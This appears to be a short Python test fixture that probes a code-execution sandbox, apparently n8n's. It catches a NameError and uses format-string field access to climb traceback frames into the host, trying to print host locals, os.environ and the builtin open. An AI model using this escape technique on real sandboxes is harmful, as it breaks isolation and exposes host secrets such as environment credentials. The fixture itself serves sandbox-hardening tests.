# expect: done
# idea: walk from a caught NameError to the host's frames with nothing but the fields of a format string
# source: n8n
def tick(ctx):
    try:
        undefined_name
    except Exception as error:
        walk = "{e.__traceback__.tb_frame.f_back" + ".f_back" * 3
        for end in (".f_code.co_name}", ".f_locals}", ".f_globals[os].environ}", ".f_builtins[open]}"):
            try:
                print((walk + end).format(e=error)[:300])
            except Exception as other:
                print("refused:", type(other).__name__, other)
